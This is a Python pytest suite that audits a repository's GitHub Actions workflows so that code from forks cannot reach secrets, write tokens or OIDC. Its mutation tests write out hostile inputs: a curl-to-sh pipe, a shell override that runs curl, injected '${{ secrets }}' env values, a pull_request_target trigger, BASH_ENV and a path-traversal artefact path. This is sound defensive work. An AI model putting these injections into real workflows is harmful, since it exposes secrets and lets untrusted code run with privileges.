"""What must hold of each workflow: nothing that a stranger sends runs with a secret, a token that may write, or OIDC.

GitHub gives a fork's pull request a token that may only read, and neither secrets nor OIDC. The checks here hold the
workflows to the same, job by job, so that no change of a trigger or of a setting opens them.
"""

import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = {path.name: path.read_text(encoding="utf-8") for path in sorted((ROOT / ".github/workflows").iterdir())}

# What is not named here is refused: a list of what is bad would always be one trick short.
TRIGGERS = {"push", "pull_request", "workflow_run"}  # pull_request_target and its like run with the base's rights
WORKFLOW_KEYS = {"name", True, "permissions", "concurrency", "jobs"}  # YAML 1.1 reads the key `on` as True
JOB_KEYS = {
    *("name", "if", "needs", "runs-on", "timeout-minutes", "environment", "permissions", "outputs", "steps"),
}
STEP_KEYS = {"name", "id", "if", "uses", "with", "run", "env"}  # no shell, no working-directory
ACTIONS = {
    "actions/attest",
    "actions/cache",
    "actions/checkout",
    "actions/download-artifact",
    "actions/setup-python",
    "actions/upload-artifact",
    "anchore/sbom-action",
    "aws-actions/configure-aws-credentials",
    "iterative/setup-cml",
}
VARIABLES = {  # no BASH_ENV, PATH or LD_PRELOAD, which make a script run something else
    *("AWS_ROLE", "BASE_SHA", "GITHUB_TOKEN", "HEAD_REF", "HEAD_REPOSITORY", "HEAD_SHA", "IMAGE"),
    *("MLFLOW_TRACKING_URI", "REPORT", "RESULTS", "TAG"),
}
SAME_REPOSITORY = "github.event.pull_request.head.repo.full_name == github.repository"
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"
APART = re.compile(r"\$\{\{ runner\.temp \}\}/[a-z]+")  # beside the checkout, in a folder of its own
PIP = re.compile(r"python -m pip install --quiet --require-hashes --no-deps --requirement (requirements/[a-z]+\.lock)")
EXECUTES = re.compile(
    r"\b(eval|exec|source|chmod|bash|sh|GITHUB_ENV|GITHUB_PATH)\b|^\s*\. |\$REPORT(?!/report\.md\b)", re.MULTILINE
)


def findings(text: str) -> Iterator[str]:
    """What is wrong with a workflow; nothing, if all is well."""
    workflow = yaml.safe_load(text)
    triggers = workflow[True]
    names = {triggers} if isinstance(triggers, str) else set(triggers)
    yield from (f"trigger: {name}" for name in sorted(names - TRIGGERS))
    yield from (f"key: {key}" for key in workflow.keys() - WORKFLOW_KEYS)
    if workflow.get("permissions") != {}:
        yield "permissions at the top"
    if "concurrency" not in workflow:
        yield "no concurrency group"
    for name, job in workflow["jobs"].items():
        yield from (f"{name}: {finding}" for finding in (*of_job(job), *unpinned(job, text)))
        if "pull_request" in names and privileges(job) and not guarded(job):
            yield f"{name}: a fork reaches {', '.join(sorted(privileges(job)))}"
        if "workflow_run" in names:
            yield from (f"{name}: {finding}" for finding in trusting(job))


def of_job(job: dict[str, Any]) -> Iterator[str]:
    yield from (f"key: {key}" for key in job.keys() - JOB_KEYS)
    if "timeout-minutes" not in job:
        yield "no timeout"
    if not re.fullmatch(r"ubuntu-\d\d\.\d\d", str(job.get("runs-on"))):
        yield "not on a fresh machine of GitHub's"
    for step in job.get("steps", []):
        yield from (f"key: {key}" for key in step.keys() - STEP_KEYS)
        yield from (f"variable: {name}" for name in step.get("env", {}).keys() - VARIABLES)
        if action(step) == "actions/checkout" and options(step).get("persist-credentials", True):
            yield "checkout leaves the token on disk"
        if action(step) == "actions/download-artifact" and not APART.fullmatch(str(options(step).get("path"))):
            yield "unpacks the artefact where it may replace what runs next"
        for line in step.get("run", "").splitlines():
            if "${{" in line:
                yield f"expression in a command: {line}"
            elif not known(line):
                yield f"unknown command: {line}"


def unpinned(job: dict[str, Any], text: str) -> Iterator[str]:
    """Actions that are not known ones, by a commit's hash with the version in a comment beside it."""
    pinned = re.findall(r"uses: (\S+@[0-9a-f]{40}) # v\d+\.\d+\.\d+$", text, re.MULTILINE)
    for step in job.get("steps", []):
        if "uses" in step and action(step) not in ACTIONS:
            yield f"unknown action: {step['uses']}"
        elif "uses" in step and step["uses"] not in pinned:
            yield f"not pinned: {step['uses']}"


def known(line: str) -> bool:
    """Whether a command is one that this repository has, and that people and tests can run, too."""
    if lock := PIP.fullmatch(line):
        return (ROOT / lock[1]).is_file()
    if target := re.fullmatch(r"make ([a-z-]+)", line):
        return f"\n{target[1]}:" in (ROOT / "Makefile").read_text()
    script = ROOT / line
    return re.fullmatch(r"scripts/workflows/[a-z]+\.sh", line) is not None and os.access(script, os.X_OK)


def privileges(job: dict[str, Any]) -> set[str]:
    """What a stranger's code must not get at, by name."""
    permissions = job.get("permissions", {})
    found = {"permissions"} if isinstance(permissions, str) else set()
    found |= {f"{name}: {right}" for name, right in permissions.items() if right != "read"} if not found else set()
    text = yaml.safe_dump(job)
    found |= {word for word in ("secrets", "vars") if re.search(rf"\b{word}\b", text, re.IGNORECASE)}
    if "environment" in job:
        found.add("an environment")
    return found


def guarded(job: dict[str, Any]) -> bool:
    """Whether a job's `if` lets only this repository's own branches in: one of its terms says so, and no || is near.

    With ${{ in it, what stands outside is text, and text that is not empty is true.
    """
    condition = " ".join(str(job.get("if", "")).split())
    return "||" not in condition and "${{" not in condition and SAME_REPOSITORY in condition.split(" && ")


def trusting(job: dict[str, Any]) -> Iterator[str]:
    """Where a job with rights, started by a stranger's run, takes that run's code, or runs what it left behind."""
    downloaded = False
    for step in job.get("steps", []):
        if action(step) == "actions/checkout" and options(step).keys() != {"persist-credentials"}:
            yield "checks out what was run, or elsewhere than it should"
        if action(step) == "actions/cache":
            yield "takes a cache"
        if downloaded and "uses" in step:
            yield f"runs {action(step)} beside the artefact"
        downloaded |= action(step) == "actions/download-artifact"
        script = ROOT / step.get("run", "-")
        if script.is_file() and (found := EXECUTES.search(code(script.read_text()))):
            yield f"{script.name} may run the artefact: {found[0].strip()}"


def action(step: dict[str, Any]) -> str:
    return str(step.get("uses", "")).partition("@")[0]


def options(step: dict[str, Any]) -> dict[str, Any]:
    return dict(step.get("with", {}))


def code(script: str) -> str:
    return "\n".join(line for line in script.splitlines() if not line.lstrip().startswith("#"))


@pytest.mark.parametrize("name", WORKFLOWS)
def test_the_workflow_holds_all_rules(name: str) -> None:
    assert list(findings(WORKFLOWS[name])) == []


def test_the_rules_see_the_jobs_that_they_are_for() -> None:
    jobs = yaml.safe_load(WORKFLOWS["experiment.yaml"])["jobs"]
    assert {name: sorted(privileges(job)) for name, job in jobs.items()} == {
        "own": ["id-token: write", "vars"],
        "results": ["contents: write"],
        "fork": [],
    }
    assert [name for name, job in jobs.items() if guarded(job)] == ["own", "results"]
    comment = yaml.safe_load(WORKFLOWS["comment.yaml"])["jobs"]["comment"]
    assert comment["permissions"] == {"actions": "read", "contents": "read", "pull-requests": "write"}


def test_the_job_that_may_push_runs_one_script_and_installs_nothing() -> None:
    job = yaml.safe_load(WORKFLOWS["experiment.yaml"])["jobs"]["results"]
    assert [step["run"] for step in job["steps"] if "run" in step] == ["scripts/workflows/results.sh"]
    assert [step["uses"].partition("@")[0] for step in job["steps"] if "uses" in step] == [
        "actions/checkout",
        "actions/download-artifact",
    ]


@pytest.mark.parametrize(
    ("name", "good", "bad", "expected"),
    [
        ("ci.yaml", f"{CHECKOUT} # v7.0.1", "actions/checkout@v7", "test: not pinned: actions/checkout@v7"),
        ("ci.yaml", " # v7.0.1", "", f"test: not pinned: {CHECKOUT}"),
        (
            "ci.yaml",
            "runs-on: ubuntu-24.04",
            "runs-on: ubuntu-24.04\n    container: python:3.11",
            "test: key: container",
        ),
        ("ci.yaml", "runs-on: ubuntu-24.04", "runs-on: self-hosted", "test: not on a fresh machine of GitHub's"),
        ("ci.yaml", "  pull_request:", "  pull_request_target:", "trigger: pull_request_target"),
        ("ci.yaml", "permissions: {}", "permissions: read-all", "permissions at the top"),
        ("ci.yaml", "permissions: {}", "env: {A: b}\npermissions: {}", "key: env"),
        ("ci.yaml", "concurrency:", "defaults:", "no concurrency group"),
        ("ci.yaml", "    timeout-minutes: 60\n", "", "test: no timeout"),
        ("ci.yaml", "persist-credentials: false", "fetch-depth: 1", "test: checkout leaves the token on disk"),
        ("ci.yaml", "run: make lint", "run: echo ${{ 1 }}", "test: expression in a command: echo ${{ 1 }}"),
        ("ci.yaml", "run: make lint", "run: make nothing", "test: unknown command: make nothing"),
        (
            "ci.yaml",
            "run: make lint",
            "run: curl https://example.org | sh",
            "test: unknown command: curl https://example.org | sh",
        ),
        (
            "ci.yaml",
            "run: make lint",
            "run: scripts/workflows/gone.sh",
            "test: unknown command: scripts/workflows/gone.sh",
        ),
        ("ci.yaml", "contents: read", "contents: write", "test: a fork reaches contents: write"),
        ("ci.yaml", "contents: read", "id-token: write", "test: a fork reaches id-token: write"),
        (
            "ci.yaml",
            "run: make lint",
            "run: make lint\n        env: {KEY: '${{ secrets.KEY }}'}",
            "test: a fork reaches secrets",
        ),
        ("ci.yaml", "permissions:\n      contents: read", "permissions: write-all", "test: a fork reaches permissions"),
        (
            "experiment.yaml",
            " == github.repository\n      && github",
            " == github.repository\n      || github",
            "own: a fork reaches id-token: write, vars",
        ),
        (
            "experiment.yaml",
            " == github.repository\n",
            " != github.repository\n",
            "own: a fork reaches id-token: write, vars",
        ),
        (
            "experiment.yaml",
            "      && needs.own.outputs.changed == 'true'",
            "      || always()",
            "results: a fork reaches contents: write",
        ),
        (
            "experiment.yaml",
            "name: Run a fork",
            "name: Run a fork\n    environment: production",
            "fork: a fork reaches an environment",
        ),
        (
            "comment.yaml",
            "persist-credentials: false",
            "persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}",
            "comment: checks out what was run, or elsewhere than it should",
        ),
        (
            "comment.yaml",
            "path: ${{ runner.temp }}/report",
            "path: .",
            "comment: unpacks the artefact where it may replace what runs next",
        ),
        (
            "comment.yaml",
            "scripts/workflows/comment.sh",
            "scripts/workflows/report.sh",
            "comment: report.sh may run the artefact: $REPORT",
        ),
        (
            "experiment.yaml",
            "      github.event.pull_request.head.repo.full_name == github.repository\n      && github",
            "      ${{ true }} && github.event.pull_request.head.repo.full_name == github.repository && github",
            "own: a fork reaches id-token: write, vars",
        ),
        ("ci.yaml", "- run: make lint", "- {uses: someone/action@main}", "test: unknown action: someone/action@main"),
        ("ci.yaml", f"- uses: {CHECKOUT}", '- "uses": actions/checkout@v7', "test: not pinned: actions/checkout@v7"),
        (
            "ci.yaml",
            "- uses: actions/checkout@",
            "- uses: Actions/Checkout@",
            f"test: unknown action: {CHECKOUT.replace('actions/checkout', 'Actions/Checkout')}",
        ),
        (
            "ci.yaml",
            "run: make lint",
            "run: make lint\n        shell: sh -c 'curl example.org' {0}",
            "test: key: shell",
        ),
        ("ci.yaml", "ubuntu-24.04", "ubuntu-${{ github.head_ref }}", "test: not on a fresh machine of GitHub's"),
        ("ci.yaml", "permissions: {}", "defaults: {run: {shell: sh}}\npermissions: {}", "key: defaults"),
        (
            "ci.yaml",
            "run: make lint",
            "run: make lint\n        env: {KEY: '${{ toJSON(SECRETS) }}'}",
            "test: a fork reaches secrets",
        ),
        ("comment.yaml", "          REPORT:", "          BASH_ENV:", "comment: variable: BASH_ENV"),
        (
            "comment.yaml",
            "path: ${{ runner.temp }}/report",
            "path: ${{ runner.temp }}/../name/name/scripts",
            "comment: unpacks the artefact where it may replace what runs next",
        ),
        (
            "comment.yaml",
            "- run: scripts/workflows/comment.sh",
            f"- uses: {CHECKOUT} # v7.0.1",
            "comment: runs actions/checkout beside the artefact",
        ),
    ],
)
def test_each_rule_bites(name: str, good: str, bad: str, expected: str) -> None:
    broken = WORKFLOWS[name].replace(good, bad)
    assert broken != WORKFLOWS[name]
    assert expected in list(findings(broken))


@pytest.mark.parametrize("script", sorted((ROOT / "scripts/workflows").iterdir()), ids=lambda path: path.name)
def test_each_script_is_used_and_stops_at_the_first_failure(script: Path) -> None:
    assert script.read_text().splitlines()[0] == "#!/usr/bin/env bash"
    assert "\nset -euo pipefail\n" in script.read_text()
    assert sum(text.count(f"run: scripts/workflows/{script.name}\n") for text in WORKFLOWS.values()) >= 1


def test_what_the_comment_needs_is_pinned_as_everywhere() -> None:
    everything = (ROOT / "requirements.lock").read_text()
    _, *pinned = re.split(r"\n(?=[a-z0-9])", (ROOT / "requirements/comment.lock").read_text().rstrip())
    assert [line.partition("==")[0] for line in pinned] == [
        "certifi",
        "charset-normalizer",
        "idna",
        "requests",
        "urllib3",
    ]
    assert all(requirement in everything for requirement in pinned)
